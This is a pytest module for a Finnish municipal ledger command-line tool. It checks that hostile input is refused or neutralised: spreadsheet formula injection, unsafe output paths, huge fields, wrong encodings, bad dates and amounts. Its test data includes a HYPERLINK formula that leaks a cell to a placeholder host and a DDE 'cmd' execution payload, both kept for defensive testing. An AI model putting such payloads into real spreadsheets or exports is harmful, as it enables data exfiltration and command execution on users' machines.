"""Hostile and careless input: each is refused with a clear message (exit 2, nothing
recorded) or, for exports, made harmless.

- formula injection: user text starting with = + - @ is neutralised in CSV and XLSX;
- `--output`: a folder, a missing folder, a symbolic link, a pipe are refused; a hard
  link is not written through;
- enormous fields, wrong encodings, impossible dates, amounts with too many decimals.
"""

from __future__ import annotations

import csv
import io
import os
import re
from pathlib import Path

import openpyxl
import pytest
from support.cli_helpers import Kuntaledger, Run

FORMULAS = (
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Klikkaa")',
    "=1+2",
    "+SUM(1;2)",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
)
NUMBER = re.compile(r"^-?\d+([.,]\d+)?$")  # a decimal point (en) or comma (fi)
HEADER = "voucher;date;account;unit;amount;text\n"


@pytest.fixture(scope="module")
def cli(tmp_path_factory: pytest.TempPathFactory) -> Kuntaledger:
    """An initialised store whose units, goals, risks and vouchers carry formula-like text
    (shared by the tests of this module: the refusals record nothing)."""
    folder = tmp_path_factory.mktemp("hostile")
    cli = Kuntaledger(f"sqlite:///{folder / 'ledger.db'}", folder)
    cli.ok("init", "--entity", "Testikaupunki")
    cli.ok("units", "add", "YP", "--name", FORMULAS[0], "--binding", "net")
    cli.ok("units", "add", "TAL", "--name", "Talouspalvelut", "--parent", "YP")
    cli.ok("units", "add", "TYÖ", "--name", "Työllisyyspalvelut", "--parent", "YP")
    cli.ok(
        "goals", "set", "YP-G1", "--year", "2024", "--unit", "YP", "--level", "council", "--text", FORMULAS[1],
        "--metric", FORMULAS[2], "--target", FORMULAS[3], "--responsible", FORMULAS[4],
        "--strategic-goal", FORMULAS[5], "--on", "1.1.2024",
    )  # fmt: skip
    cli.ok("goals", "report", "YP-G1", "--text", FORMULAS[1], "--status", "achieved", "--on", "31.12.2024")
    cli.ok(
        "risks", "assess", "YP-R1", "--unit", "YP", "--year", "2024", "--class", FORMULAS[1],
        "--description", FORMULAS[2], "--probability", "2", "--significance", "3", "--mitigation", FORMULAS[3],
        "--carried-out", FORMULAS[4], "--on", "30.6.2024",
    )  # fmt: skip
    rows = [f'V-1;15.3.2024;4390;TAL;100,00;"{text.replace(chr(34), chr(34) * 2)}"' for text in FORMULAS[:3]]
    rows.append("V-1;15.3.2024;2500;TAL;-300,00;@velka")
    cli.ok("post", "--file", cli.file("gl.csv", HEADER + "\n".join(rows) + "\n"))
    return cli


def _log_length(cli: Kuntaledger) -> int:
    return len(cli.json("events"))


def _refused(cli: Kuntaledger, *args: str, says: str) -> Run:
    """Run a command that must be refused with exit 2, the words `says`, and nothing recorded."""
    before = _log_length(cli)
    run = cli(*args)
    assert run.exit_code == 2, run.stderr
    assert says in run.stderr, run.stderr
    assert "Traceback" not in run.stderr
    assert _log_length(cli) == before
    return run


def _dangerous(text: str) -> bool:
    """Would a spreadsheet read this cell as a formula? (Negative numbers are numbers.)"""
    return text[:1] in ("=", "+", "@", "\t", "\r") or (text[:1] == "-" and not NUMBER.match(text))


REPORTS = [
    ("statement", "--unit", "YP", "--year", "2024"),
    ("goals", "--unit", "YP", "--year", "2024"),
    ("risks", "--unit", "YP", "--year", "2024"),
]


@pytest.mark.parametrize("report", REPORTS, ids=lambda r: r[0])
def test_formula_like_text_is_neutralised_in_csv(cli: Kuntaledger, report: tuple[str, ...]) -> None:
    text = cli.ok(*report, "--format", "csv").stdout
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    assert [cell for cell in cells if _dangerous(cell)] == []
    if report[0] != "statement":  # the statement prints no user text, only row labels
        assert "'" + FORMULAS[1] in cells


@pytest.mark.parametrize("report", REPORTS, ids=lambda r: r[0])
def test_formula_like_text_is_neutralised_in_xlsx(cli: Kuntaledger, report: tuple[str, ...], tmp_path: Path) -> None:
    path = tmp_path / f"{report[0]}.xlsx"
    cli.ok(*report, "--format", "xlsx", "--output", str(path))
    workbook = openpyxl.load_workbook(path)
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == [], "no cell may be a formula"
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert [text for text in texts if _dangerous(text)] == []
    if report[0] != "statement":
        assert "'" + FORMULAS[1] in texts


def test_formula_like_voucher_text_is_neutralised_in_the_journal_export(cli: Kuntaledger, tmp_path: Path) -> None:
    path = tmp_path / "journal.csv"
    cli.ok("export", "--format", "csv", "--year", "2024", "--output", str(path))
    text = path.read_text(encoding="utf-8")
    delimiter = ";" if text.splitlines()[0].count(";") > text.splitlines()[0].count(",") else ","
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
    assert [cell for cell in cells if _dangerous(cell)] == []


# --output


def test_output_into_a_folder_is_refused(cli: Kuntaledger, tmp_path: Path) -> None:
    run = cli("statement", "--unit", "YP", "--year", "2024", "--format", "csv", "--output", str(tmp_path))
    assert run.exit_code == 2 and "is a folder; name a file in it" in run.stderr


@pytest.mark.parametrize(
    "command",
    [
        ("statement", "--unit", "YP", "--year", "2024", "--format", "csv"),
        ("risks", "--unit", "YP", "--year", "2024", "--format", "xlsx"),
        ("report", "--unit", "YP", "--year", "2024", "--format", "md"),
        ("export", "--format", "json"),
    ],
    ids=lambda c: c[0],
)
def test_output_in_a_missing_folder_is_refused(cli: Kuntaledger, tmp_path: Path, command: tuple[str, ...]) -> None:
    missing = tmp_path / "no-such-folder" / "out.file"
    run = cli(*command, "--output", str(missing))
    assert run.exit_code == 2 and "does not exist; create it first" in run.stderr, run.stderr
    assert not missing.parent.exists()


@pytest.mark.parametrize(
    "command",
    [("goals", "--unit", "YP", "--year", "2024", "--format", "csv"), ("export", "--format", "json")],
    ids=lambda c: c[0],
)
def test_output_through_a_symbolic_link_is_refused_and_its_target_untouched(
    cli: Kuntaledger, tmp_path: Path, command: tuple[str, ...]
) -> None:
    target = tmp_path / "precious.txt"
    target.write_text("do not overwrite", encoding="utf-8")
    link = tmp_path / "report.csv"
    link.symlink_to(target)
    run = cli(*command, "--output", str(link))
    assert run.exit_code == 2 and "is a symbolic link" in run.stderr, run.stderr
    assert target.read_text(encoding="utf-8") == "do not overwrite"


def test_output_to_a_pipe_is_refused_without_blocking(cli: Kuntaledger, tmp_path: Path) -> None:
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    run = cli("statement", "--unit", "YP", "--year", "2024", "--format", "csv", "--output", str(pipe))
    assert run.exit_code == 2 and "not a regular file" in run.stderr


def test_output_over_a_hard_link_replaces_the_name_and_leaves_the_other_link_alone(
    cli: Kuntaledger, tmp_path: Path
) -> None:
    original = tmp_path / "original.txt"
    original.write_text("keep me", encoding="utf-8")
    linked = tmp_path / "risks.csv"
    os.link(original, linked)
    cli.ok("risks", "--unit", "YP", "--year", "2024", "--format", "csv", "--output", str(linked))
    assert original.read_text(encoding="utf-8") == "keep me"
    assert linked.read_text(encoding="utf-8").startswith("risk;")
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".part")] == []


def test_output_over_an_existing_file_replaces_it(cli: Kuntaledger, tmp_path: Path) -> None:
    path = tmp_path / "statement.csv"
    path.write_text("old", encoding="utf-8")
    cli.ok("statement", "--unit", "YP", "--year", "2024", "--format", "csv", "--output", str(path))
    assert path.read_text(encoding="utf-8").startswith("key;")


# Enormous fields


def test_a_field_over_the_limit_is_refused(cli: Kuntaledger) -> None:
    text = "x" * 10_001
    path = cli.file("long.csv", HEADER + f"L-1;1.3.2024;4390;TAL;1,00;{text}\nL-1;1.3.2024;2500;TAL;-1,00;\n")
    _refused(cli, "post", "--file", path, says="long.csv line 2, column text: longer than 10000 characters")


@pytest.mark.parametrize("size", [200_000, 3_000_000], ids=["beyond-the-csv-limit", "megabytes"])
def test_an_enormous_field_is_refused_without_reading_it_all_as_a_value(cli: Kuntaledger, size: int) -> None:
    path = cli.file("huge.csv", HEADER + f'H-1;1.3.2024;4390;TAL;1,00;"{"y" * size}"\nH-1;1.3.2024;2500;TAL;-1,00;\n')
    _refused(cli, "post", "--file", path, says="longer than 10000 characters")


def test_an_enormous_voucher_id_is_refused(cli: Kuntaledger) -> None:
    voucher = "V" * 5_000
    path = cli.file("ids.csv", HEADER + f"{voucher};1.3.2024;4390;TAL;1,00;\n{voucher};1.3.2024;2500;TAL;-1,00;\n")
    _refused(cli, "post", "--file", path, says="ids.csv line 2, column voucher")


# Encodings

LATIN_1_VOUCHERS = HEADER + "E-1;1.3.2024;4390;TYÖ;12,50;Kahvitarjoilu, pullat ja mehu (työkokous)\n"
LATIN_1_VOUCHERS += "E-1;1.3.2024;2500;TYÖ;-12,50;Ostovelka\n"


def test_a_latin_1_file_is_refused_with_a_hint(cli: Kuntaledger) -> None:
    path = cli.file("latin1.csv", LATIN_1_VOUCHERS, encoding="latin-1")
    _refused(cli, "post", "--file", path, says="not UTF-8 (Latin-1 or Windows-1252?)")
    assert "--encoding latin-1" in cli("post", "--file", path).stderr


def test_a_latin_1_file_is_converted_when_its_encoding_is_given(cli: Kuntaledger) -> None:
    path = cli.file("latin1.csv", LATIN_1_VOUCHERS, encoding="latin-1")
    before = _log_length(cli)
    cli.ok("post", "--file", path, "--encoding", "latin-1")
    assert _log_length(cli) == before + 1
    export = cli.workdir / "journal.csv"
    cli.ok("export", "--format", "csv", "--year", "2024", "--output", str(export))
    assert "Kahvitarjoilu, pullat ja mehu (työkokous)" in export.read_text(encoding="utf-8")


def test_a_windows_1252_budget_is_refused_then_converted(cli: Kuntaledger) -> None:
    budget = "unit;line;amount\nTYÖ;sales_income;1 000\nTAL;personnel_expenses;-5 000\n"
    path = cli.file("budget.csv", budget, encoding="cp1252")
    adopt = ("budget", "adopt", "--year", "2024", "--file", path, "--decision", "Kv 1", "--decided-on", "11.12.2023")
    _refused(cli, *adopt, says="budget.csv line 2: the file is not UTF-8")
    cli.ok(*adopt, "--encoding", "cp1252")


def test_a_utf_16_file_is_refused_with_a_hint(cli: Kuntaledger) -> None:
    path = cli.file("utf16.csv", LATIN_1_VOUCHERS, encoding="utf-16")
    _refused(cli, "post", "--file", path, says="utf16.csv line 1")


def test_an_unknown_encoding_is_refused(cli: Kuntaledger) -> None:
    path = cli.file("v.csv", LATIN_1_VOUCHERS)
    _refused(cli, "post", "--file", path, "--encoding", "klingon", says="unknown encoding 'klingon'")


# Dates


@pytest.mark.parametrize(
    ("day", "says"),
    [
        ("31.2.2024", "'31.2.2024' is not a real date"),
        ("29.2.2023", "'29.2.2023' is not a real date"),
        ("2024-02-30", "'2024-02-30' is not a real date"),
        ("31.2.", "'31.2.' is not a date; use 2024-12-31 or 31.12.2024"),
        ("32.1.2024", "'32.1.2024' is not a real date"),
        ("1.13.2024", "'1.13.2024' is not a real date"),
    ],
)
def test_an_impossible_date_in_a_voucher_file_is_refused(cli: Kuntaledger, day: str, says: str) -> None:
    path = cli.file("dates.csv", HEADER + f"D-1;{day};4390;TAL;1,00;\nD-1;{day};2500;TAL;-1,00;\n")
    _refused(cli, "post", "--file", path, says=f"dates.csv line 2, column date: {says}")


def test_an_impossible_date_option_is_refused(cli: Kuntaledger) -> None:
    _refused(cli, "reverse", "V-1", "--on", "31.2.2024", "--reason", "x", says="--on: '31.2.2024' is not a real date")
    path = cli.file("b.csv", "unit;line;amount\nTAL;sales_income;1\n")
    adopt = ("budget", "adopt", "--year", "2024", "--file", path, "--decision", "Kv 1", "--decided-on", "31.2.")
    _refused(cli, *adopt, says="--decided-on: '31.2.' is not a date")


# Amounts


@pytest.mark.parametrize(
    ("amount", "says"),
    [
        ("12,345", "'12,345' has more than two decimals"),
        ("0,001", "'0,001' has more than two decimals"),
        ("1 234,567", "'1 234,567' has more than two decimals"),
        ("1.005", "'1.005' has more than two decimals"),
        ("12.3.4", "'12.3.4' is not an amount"),
        ("1,5e3", "'1,5e3' is not an amount"),
        ("12 34,00", "'12 34,00' is not an amount; spaces may only separate thousands"),
    ],
)
def test_an_amount_with_too_many_decimals_or_garbled_is_refused_not_rounded(
    cli: Kuntaledger, amount: str, says: str
) -> None:
    path = cli.file("amounts.csv", HEADER + f'A-1;1.3.2024;4390;TAL;"{amount}";\nA-1;1.3.2024;2500;TAL;-1,00;\n')
    _refused(cli, "post", "--file", path, says=f"amounts.csv line 2, column amount: {says}")


def test_a_budget_amount_with_too_many_decimals_is_refused(cli: Kuntaledger) -> None:
    path = cli.file("budget.csv", "unit;line;amount\nTAL;sales_income;1 000,005\n")
    adopt = ("budget", "adopt", "--year", "2024", "--file", path, "--decision", "Kv 1", "--decided-on", "11.12.2023")
    _refused(cli, *adopt, says="budget.csv line 2, column amount: '1 000,005' has more than two decimals")
